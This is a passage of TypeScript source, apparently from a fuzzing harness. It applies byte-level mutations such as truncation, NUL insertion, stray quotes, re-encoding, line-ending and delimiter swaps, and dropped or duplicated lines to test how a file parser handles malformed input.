    case "insertBytes":
      return spliceBytes(bytes, m.at, m.bytes);
    case "insertText":
      return spliceBytes(bytes, m.at, encoder.encode(m.text));
    case "latin1":
      return spliceBytes(bytes, m.at, latin1(m.text));
    case "nul":
      return spliceBytes(bytes, m.at, Uint8Array.from([0]));
    case "truncate":
      return bytes.subarray(0, bytes.length === 0 ? 0 : m.at % bytes.length);
    case "quote":
      return spliceBytes(bytes, m.at, Uint8Array.from([0x22]));
    case "delimiters": {
      let n = 0;
      return encoder.encode(text().replaceAll(m.from, (found) => (n++ % m.every === 0 ? m.to : found)));
    }
    case "endings":
      return encoder.encode(text().replace(/\r\n|\r|\n/g, m.to));
    case "huge":
      return spliceBytes(bytes, m.at, encoder.encode(m.char.repeat(m.length)));
    case "utf16":
      return utf16(text(), m.littleEndian);
    case "duplicateLine":
    case "dropLine": {
      const lines = text().split("\n");
      const k = m.line % Math.max(1, lines.length);
      if (m.op === "dropLine") lines.splice(k, 1);
      else lines.splice(k, 0, lines[k] ?? "");
      return encoder.encode(lines.join("\n"));
    }
    case "prefix":
      return concat(m.bytes, bytes);
  }
}

/** Line breaks of any kind, plus one: no file has more rows than this. */
export function physicalLines(bytes: Uint8Array): number {
  return (new TextDecoder().decode(bytes).match(/\r\n|\r|\n/g)?.length ?? 0) + 1;
}
